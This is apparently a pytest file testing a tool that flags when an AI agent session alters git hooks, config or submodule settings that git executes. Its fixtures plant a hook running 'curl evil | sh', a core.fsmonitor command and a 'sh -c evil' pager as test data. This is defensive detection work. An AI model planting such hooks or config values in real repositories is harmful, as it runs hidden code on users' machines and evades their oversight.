"""What dev.claude reports of an agent session's changes to the files the host's git runs (lkctl.dev.gitguard),
on real git repositories in a temp dir."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from lkctl.dev.gitguard import changed_control_files, control_files


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(tmp_path / "p")], check=True)
    return tmp_path / "p"


def test_planted_hooks_settings_and_modes_are_named_and_objects_are_not(repo: Path) -> None:
    before = control_files(repo)
    assert ".git/config" in before and ".git/hooks/pre-commit.sample" in before
    (repo / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    subprocess.run(["git", "-C", str(repo), "config", "core.fsmonitor", "touch /tmp/pwned"], check=True)
    os.chmod(repo / ".git" / "hooks" / "pre-push.sample", 0o644)  # a mode change counts
    (repo / ".git" / "objects" / "ab").mkdir()
    (repo / ".git" / "objects" / "ab" / "cdef").write_bytes(b"blob")  # git's data, never run
    (repo / "README").write_text("work\n")  # the agent's actual work: not a control file
    after = control_files(repo)
    assert changed_control_files(before, after) == [
        ".git/config", ".git/hooks/post-checkout", ".git/hooks/pre-push.sample"
    ]  # fmt: skip
    assert changed_control_files(after, control_files(repo)) == []


def test_a_fifo_or_a_link_to_a_device_is_noted_without_being_read(repo: Path) -> None:
    before = control_files(repo)
    os.mkfifo(repo / ".git" / "hooks" / "pre-commit")  # opening it would block forever
    (repo / ".git" / "info" / "attributes").symlink_to("/dev/zero")  # reading it would never end
    after = control_files(repo)
    assert after[".git/hooks/pre-commit"].startswith("type ")
    assert after[".git/info/attributes"] == "symlink:/dev/zero"
    assert changed_control_files(before, after) == [".git/hooks/pre-commit", ".git/info/attributes"]


def test_submodules_count_by_their_config_and_hooks(repo: Path) -> None:
    sub = repo / ".git" / "modules" / "lib"
    (sub / "hooks").mkdir(parents=True)
    (sub / "objects").mkdir()
    (sub / "config").write_text("[core]\n")
    before = control_files(repo)
    (sub / "hooks" / "post-merge").write_text("#!/bin/sh\n")
    (sub / "objects" / "pack").write_text("data")
    (sub / "config").write_text("[core]\n\tpager = sh -c evil\n")
    assert changed_control_files(before, control_files(repo)) == [
        ".git/modules/lib/config", ".git/modules/lib/hooks/post-merge"
    ]  # fmt: skip


def test_a_project_without_a_git_directory_has_nothing_to_watch(tmp_path: Path) -> None:
    assert control_files(tmp_path) == {}
    (tmp_path / ".git").write_text("gitdir: /elsewhere/.git/worktrees/x\n")  # a worktree: its gitdir is not shared
    assert control_files(tmp_path) == {}
